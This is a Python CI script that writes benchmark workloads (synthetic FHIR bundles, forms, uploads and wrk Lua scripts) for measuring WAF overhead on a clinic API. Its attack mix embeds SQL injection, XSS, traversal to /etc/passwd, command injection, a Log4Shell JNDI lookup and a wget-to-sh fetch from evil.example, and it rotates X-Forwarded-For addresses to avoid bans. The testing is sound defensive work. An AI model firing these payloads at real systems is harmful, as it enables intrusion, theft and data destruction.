#!/usr/bin/env python3
"""Writes the benchmark workloads of ci/bench/compare.sh into a directory.

    ci/bench/workloads.py OUT_DIR

Files written (all deterministic, the same bytes on every machine):
  form.txt            a 10 KB application/x-www-form-urlencoded patient intake form
  fhir.json           a ~100 KB FHIR R4 transaction Bundle (Patient, Encounter, Observation,
                      Condition, MedicationRequest) as a health app would POST it
  small-get.lua       GET /api/health with a short header set
  browser-get.lua     GET with 10 query arguments and the headers a browser sends
  form-post.lua       POST form.txt
  fhir-post.lua       POST fhir.json as application/fhir+json
  binary.json         a 100 KB FHIR Binary resource (base64 data): the body compare.sh echoes
                      through every target to check that bodies arrive whole
  attack-mix.lua      benign GETs, every 20th request an attack (SQLi, XSS, traversal, RCE, ...)
  upload.bin          a patient portal's document upload: multipart/form-data, two short fields and
                      a 100 KB PDF (pseudo-random bytes behind a PDF header, as compressed content is)
  upload-post.lua     POST upload.bin (multipart/form-data; boundary=UPLOAD_BOUNDARY)

Every script sends X-Forwarded-Proto: https and X-Forwarded-For like the Heroku router does, and
ends with a done() that prints one machine-readable RESULT line (latencies in microseconds,
p99.9 included, which wrk --latency does not print). Attack requests each carry a fresh
X-Forwarded-For address so that a WAF's per-client bans do not turn the rest of the run into
ban refusals: the figure is the cost of inspection, not of a ban list lookup.
Standard library only.
"""

import base64
import json
import os
import random
import sys
import urllib.parse

HOST = "api.example-clinic.org"
CLIENT = "198.51.100.23"

FIRST = ["Maria", "James", "Aiko", "Oluwaseun", "Priya", "Lars", "Fatima", "Diego", "Mei", "Noah",
         "Amara", "Jonas", "Sofia", "Kwame", "Elena", "Tariq", "Hannah", "Mateo", "Leila", "Ravi"]
LAST = ["Garcia", "Okafor", "Tanaka", "Schmidt", "Nguyen", "Haddad", "Kowalski", "Rossi", "Patel",
        "Johansson", "Mensah", "Silva", "Cohen", "Dubois", "Ivanova", "Murphy", "Khan", "Lopez"]
CITIES = [("Springfield", "IL", "62701"), ("Madison", "WI", "53703"), ("Portland", "OR", "97205"),
          ("Austin", "TX", "78701"), ("Burlington", "VT", "05401"), ("Tucson", "AZ", "85701")]
# (LOINC code, display, unit, low, high)
VITALS = [("8867-4", "Heart rate", "/min", 52, 110), ("8310-5", "Body temperature", "Cel", 36, 39),
          ("9279-1", "Respiratory rate", "/min", 12, 22), ("29463-7", "Body weight", "kg", 48, 120),
          ("8302-2", "Body height", "cm", 150, 195), ("2339-0", "Glucose [Mass/volume] in Blood",
          "mg/dL", 70, 180), ("2093-3", "Cholesterol [Mass/volume] in Serum or Plasma", "mg/dL",
          140, 260), ("4548-4", "Hemoglobin A1c/Hemoglobin.total in Blood", "%", 4, 9)]
CONDITIONS = [("44054006", "Diabetes mellitus type 2"), ("38341003", "Hypertensive disorder"),
              ("195967001", "Asthma"), ("35489007", "Depressive disorder"),
              ("55822004", "Hyperlipidemia"), ("40055000", "Chronic sinusitis")]
MEDICATIONS = [("860975", "24 HR Metformin hydrochloride 500 MG Extended Release Oral Tablet"),
               ("314076", "lisinopril 10 MG Oral Tablet"), ("617312", "atorvastatin 40 MG Oral Tablet"),
               ("745679", "200 ACTUAT albuterol 0.09 MG/ACTUAT Metered Dose Inhaler"),
               ("312938", "sertraline 50 MG Oral Tablet")]
NOTES = ["Patient reports improved sleep since the last visit and walks 30 minutes most days.",
         "Follow up in 3 months; repeat labs before the visit. Discussed diet and exercise.",
         "No known drug allergies. Family history of heart disease (father, age 61).",
         "Mild wheeze on exam, resolved after bronchodilator. Inhaler technique reviewed.",
         "Blood pressure well controlled on current dose; continue home monitoring twice daily."]


def uid(rng):
    h = "%032x" % rng.getrandbits(128)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def fhir_bundle(target_bytes):
    rng = random.Random(9)
    entries = []

    def add(resource):
        rid = uid(rng)
        resource["id"] = rid
        entries.append({"fullUrl": f"urn:uuid:{rid}", "resource": resource,
                        "request": {"method": "POST", "url": resource["resourceType"]}})
        return rid

    while True:
        city, state, zipc = rng.choice(CITIES)
        given, family = rng.choice(FIRST), rng.choice(LAST)
        pid = add({
            "resourceType": "Patient",
            "meta": {"profile": ["http://hl7.org/fhir/us/core/StructureDefinition/us-core-patient"]},
            "identifier": [{"system": "http://hospital.example.org/mrn", "value": str(rng.randint(10**7, 10**8))}],
            "name": [{"use": "official", "family": family, "given": [given]}],
            "telecom": [{"system": "phone", "value": f"555-{rng.randint(100, 999)}-{rng.randint(1000, 9999)}", "use": "home"},
                        {"system": "email", "value": f"{given.lower()}.{family.lower()}@example.com"}],
            "gender": rng.choice(["female", "male"]),
            "birthDate": f"{rng.randint(1940, 2010)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
            "address": [{"line": [f"{rng.randint(1, 9999)} Oak Street", f"Apt {rng.randint(1, 40)}"],
                         "city": city, "state": state, "postalCode": zipc, "country": "US"}],
        })
        day = f"2025-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
        eid = add({
            "resourceType": "Encounter", "status": "finished",
            "class": {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "AMB", "display": "ambulatory"},
            "type": [{"coding": [{"system": "http://snomed.info/sct", "code": "185349003",
                                  "display": "Encounter for check up (procedure)"}]}],
            "subject": {"reference": f"urn:uuid:{pid}"},
            "period": {"start": f"{day}T09:{rng.randint(0, 59):02d}:00-05:00", "end": f"{day}T10:{rng.randint(0, 59):02d}:00-05:00"},
        })
        for code, display, unit, low, high in rng.sample(VITALS, 5):
            add({
                "resourceType": "Observation", "status": "final",
                "category": [{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/observation-category",
                                          "code": "vital-signs", "display": "Vital signs"}]}],
                "code": {"coding": [{"system": "http://loinc.org", "code": code, "display": display}], "text": display},
                "subject": {"reference": f"urn:uuid:{pid}"}, "encounter": {"reference": f"urn:uuid:{eid}"},
                "effectiveDateTime": f"{day}T09:30:00-05:00",
                "valueQuantity": {"value": round(rng.uniform(low, high), 1), "unit": unit,
                                  "system": "http://unitsofmeasure.org", "code": unit},
            })
        code, display = rng.choice(CONDITIONS)
        add({
            "resourceType": "Condition",
            "clinicalStatus": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/condition-clinical", "code": "active"}]},
            "code": {"coding": [{"system": "http://snomed.info/sct", "code": code, "display": display}], "text": display},
            "subject": {"reference": f"urn:uuid:{pid}"}, "onsetDateTime": f"{rng.randint(2005, 2024)}-03-01",
            "note": [{"text": rng.choice(NOTES)}],
        })
        code, display = rng.choice(MEDICATIONS)
        add({
            "resourceType": "MedicationRequest", "status": "active", "intent": "order",
            "medicationCodeableConcept": {"coding": [{"system": "http://www.nlm.nih.gov/research/umls/rxnorm",
                                                       "code": code, "display": display}], "text": display},
            "subject": {"reference": f"urn:uuid:{pid}"}, "authoredOn": day,
            "dosageInstruction": [{"text": "Take one tablet by mouth once daily", "timing": {"repeat": {"frequency": 1, "period": 1, "periodUnit": "d"}}}],
        })
        body = json.dumps({"resourceType": "Bundle", "type": "transaction", "entry": entries}, indent=1)
        if len(body) >= target_bytes:
            return body


def form_body(target_bytes):
    rng = random.Random(10)
    fields = [("first_name", "Maria"), ("last_name", "Garcia-Lopez"), ("date_of_birth", "1984-07-12"),
              ("email", "maria.garcia@example.com"), ("phone", "+1 555 201 3344"),
              ("address", "1200 Oak Street, Apt 4"), ("city", "Springfield"), ("state", "IL"), ("zip", "62701"),
              ("insurance_provider", "Blue Cross Blue Shield"), ("member_id", "XGH482913375"),
              ("emergency_contact", "Jonas Garcia (spouse), 555-201-7781"),
              ("allergies", "Penicillin (rash); peanuts"), ("medications", "Metformin 500 mg twice daily, lisinopril 10 mg"),
              ("csrf_token", "f3a91c0d6e2b47a8b1c9d0e4f5a6b7c8")]
    pairs = list(fields)
    i = 0
    while len(urllib.parse.urlencode(pairs)) < target_bytes:
        pairs.append((f"symptom_notes_{i}", " ".join(rng.choice(NOTES) for _ in range(2))))
        i += 1
    return urllib.parse.urlencode(pairs)


LUA_DONE = r'''
function done(summary, latency, requests)
  local e = summary.errors
  io.write(string.format("RESULT requests=%d duration_us=%d status_errors=%d socket_errors=%d p50_us=%d p99_us=%d p999_us=%d\n",
    summary.requests, summary.duration, e.status, e.connect + e.read + e.write + e.timeout,
    latency:percentile(50), latency:percentile(99), latency:percentile(99.9)))
end
'''


def lua_headers(headers):
    return "".join(f'wrk.headers[{json.dumps(k)}] = {json.dumps(v)}\n' for k, v in headers)


BASE = [("Host", HOST), ("X-Forwarded-For", CLIENT), ("X-Forwarded-Proto", "https")]
BROWSER = BASE + [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.9"), ("Accept-Encoding", "gzip, deflate, br"),
    ("Referer", f"https://{HOST}/portal/appointments"),
    ("Cookie", "_ga=GA1.2.1843926613.1733300000; session=9f2c4e1ab77d4c03a6e5b8d1c2f30a94; theme=light"),
    ("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Site", "same-origin"),
    ("Upgrade-Insecure-Requests", "1"), ("Cache-Control", "max-age=0"),
]
API = BASE + [("User-Agent", "clinic-portal/2.3 (okhttp/4.12.0)"), ("Accept", "application/json")]
BROWSER_PATH = ("/portal/appointments?" + urllib.parse.urlencode([
    ("patient", "8f14e45f-ceea-467a-a866-051f4a6d2a18"), ("from", "2025-01-01"), ("to", "2025-12-31"),
    ("status", "booked"), ("practitioner", "dr-okafor"), ("location", "springfield-main"),
    ("sort", "-date"), ("page", "2"), ("per_page", "25"), ("lang", "en-US")]))
ATTACKS = [
    "/portal/appointments?patient=1%27%20OR%20%271%27%3D%271",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/api/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
    "/portal/appointments?sort=date%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
    "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/api/report?template=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "/index.php?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex",
    "/api/export?id=1%3B%20DROP%20TABLE%20patients--",
    "/api/run?cmd=%60wget%20http%3A%2F%2Fevil.example%2Fx.sh%20-O-%7Csh%60",
]


UPLOAD_BOUNDARY = "----PortalUpload7MA4YWxkTrZu0gW"


def upload_body(file_bytes):
    """A document upload as a browser sends it: two fields, then the file part."""
    b = UPLOAD_BOUNDARY
    head = (f'--{b}\r\nContent-Disposition: form-data; name="document_type"\r\n\r\ninsurance-card\r\n'
            f'--{b}\r\nContent-Disposition: form-data; name="description"\r\n\r\n'
            'Front and back of my new insurance card (effective 2025-01-01).\r\n'
            f'--{b}\r\nContent-Disposition: form-data; name="file"; filename="insurance-card.pdf"\r\n'
            'Content-Type: application/pdf\r\n\r\n')
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + random.Random(13).randbytes(file_bytes)
    return head.encode() + pdf + f"\r\n--{b}--\r\n".encode()


def write_scripts(out):
    with open(os.path.join(out, "small-get.lua"), "w") as f:
        f.write('wrk.method = "GET"\nwrk.path = "/api/health"\n' + lua_headers(API) + LUA_DONE)
    with open(os.path.join(out, "browser-get.lua"), "w") as f:
        f.write(f'wrk.method = "GET"\nwrk.path = {json.dumps(BROWSER_PATH)}\n' + lua_headers(BROWSER) + LUA_DONE)
    for name, ctype, path, body in (("form-post", "application/x-www-form-urlencoded", "/portal/intake", "form.txt"),
                                    ("fhir-post", "application/fhir+json", "/fhir/r4", "fhir.json"),
                                    ("upload-post", f"multipart/form-data; boundary={UPLOAD_BOUNDARY}",
                                     "/portal/documents", "upload.bin")):
        hdrs = API + [("Content-Type", ctype)]
        if name == "fhir-post":
            hdrs = [(k, "application/fhir+json" if k == "Accept" else v) for k, v in hdrs]
        with open(os.path.join(out, f"{name}.lua"), "w") as f:
            f.write(f'local file = assert(io.open({json.dumps(os.path.join(out, body))}, "rb"))\n'
                    'wrk.body = file:read("*a")\nfile:close()\n'
                    f'wrk.method = "POST"\nwrk.path = {json.dumps(path)}\n' + lua_headers(hdrs) + LUA_DONE)
    # The mix: benign requests are pre-formatted (cheap for the client); every 20th request is the
    # next attack, formatted with its own client address.
    with open(os.path.join(out, "attack-mix.lua"), "w") as f:
        f.write("local attacks = {" + ", ".join(json.dumps(a) for a in ATTACKS) + "}\n")
        f.write("local api = {}\n" + "".join(f"api[{json.dumps(k)}] = {json.dumps(v)}\n" for k, v in API if k != "X-Forwarded-For"))
        f.write("local browser = {}\n" + "".join(f"browser[{json.dumps(k)}] = {json.dumps(v)}\n" for k, v in BROWSER))
        f.write(f'''api["X-Forwarded-For"] = {json.dumps(CLIENT)}
local benign = {{
  wrk.format("GET", "/api/health", api),
  wrk.format("GET", {json.dumps(BROWSER_PATH)}, browser),
  wrk.format("GET", "/fhir/r4/Patient/8f14e45f-ceea-467a-a866-051f4a6d2a18", api),
  wrk.format("GET", "/portal/appointments?page=3", browser),
}}
local n = 0
local attack_headers = {{}}
for k, v in pairs(api) do attack_headers[k] = v end
function request()
  n = n + 1
  if n % 20 == 0 then
    local a = n / 20
    attack_headers["X-Forwarded-For"] = string.format("11.%d.%d.%d", math.floor(a / 65536) % 256, math.floor(a / 256) % 256, a % 256)
    return wrk.format("GET", attacks[(a % #attacks) + 1], attack_headers)
  end
  return benign[(n % #benign) + 1]
end
''' + LUA_DONE)


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: ci/bench/workloads.py OUT_DIR")
    out = os.path.abspath(sys.argv[1])
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "form.txt"), "w") as f:
        f.write(form_body(10 * 1024))
    with open(os.path.join(out, "fhir.json"), "w") as f:
        f.write(fhir_bundle(100 * 1024))
    with open(os.path.join(out, "upload.bin"), "wb") as f:
        f.write(upload_body(100 * 1024))
    with open(os.path.join(out, "binary.json"), "w") as f:
        data = base64.b64encode(random.Random(11).randbytes(75 * 1024)).decode()
        f.write(json.dumps({"resourceType": "Binary", "contentType": "application/pdf", "data": data}))
    write_scripts(out)


if __name__ == "__main__":
    main()
